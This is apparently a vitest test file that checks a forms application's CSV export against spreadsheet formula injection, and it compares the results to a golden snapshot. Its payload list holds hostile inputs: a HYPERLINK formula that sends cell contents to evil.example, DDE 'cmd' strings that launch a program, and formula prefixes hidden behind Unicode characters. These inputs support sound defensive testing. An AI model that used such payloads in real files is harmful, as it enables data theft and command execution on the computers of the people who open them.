/** A spreadsheet computes nothing when it opens an export (ASVS 1.2.10). `test/submissions/read/export.test.ts` has the properties. */
import { expect, test } from 'vitest';
import { forms } from '../../src/forms/catalog.ts';
import { csvRecord, submissionFormats } from '../../src/submissions/read/export.ts';
import { eventOf, keptSubmission } from '../support/submissions.ts';

const payloads = [
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|"x"!A0',
  '@SUM(1,1)',
  '-2+3',
  '\t=starts with a tab',
  '\r=starts with a carriage return',
  '\n=starts with a line feed',
  '＝1＋1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'has "quotes", commas\r\n=and(a line that begins so)',
  "'=already prefixed",
  '\u200e=1+1',
  '\u061c\u200f+1',
  '\u00ad\u034f@SUM(1)',
  '\u200d\u2800-1',
  '\u3164 ＝1',
  '+1-415-555-0100',
  '- 2+3',
  '- two rooms+SUM (1)',
  "- two rooms|' /C calc'!A0",
  '+14155550100',
  '+1 (415) 555-0100',
  '+1 555 0100',
  '-5 degrees',
  '- two rooms, 12" pipe & a door!',
  '-',
  'plain',
  'a\u200e=1',
  '\u200eplain',
];

const { csv } = submissionFormats('Europe/Berlin');
const names = new Set(Object.values(forms).flatMap(({ fields }) => fields.map(({ name }) => name)));

/** Returns the record of a submission with the payload in every column that a stranger fills. */
function recordOf(payload: string): string {
  const fields = Object.fromEntries([...names].map((name) => [name, payload]));
  const recipient = { id: 'c-1', name: payload };
  return csv({ ...keptSubmission(eventOf({ fields, recipient, origin: 'agent', client: payload })), note: payload });
}

/** To write `formulas.csv` again, run `npx vitest run test/attacks/csv-formulas.test.ts -u` and read the difference. */
test('formulas in CSV: the export of every prefix in every column equals the golden file', async () => {
  await expect(payloads.map((payload) => csvRecord([payload])).join('')).toMatchFileSnapshot('formulas.csv');
  for (const payload of payloads) {
    const cell = csvRecord([payload]).slice(0, -'\r\n'.length);
    const typed = Array.from(names, () => cell);
    expect(recordOf(payload)).toBe(
      `${['2026-09-01 14:00:00', 'contact', 'new', ...typed, cell, 'agent', cell, 'delivered', 'id', ''].join()}\r\n`,
    );
  }
});

test('formulas in CSV: the export prefixes a value that starts with NUL', () => {
  expect(recordOf('\0=1')).not.toMatch(/[,"]\0/);
});
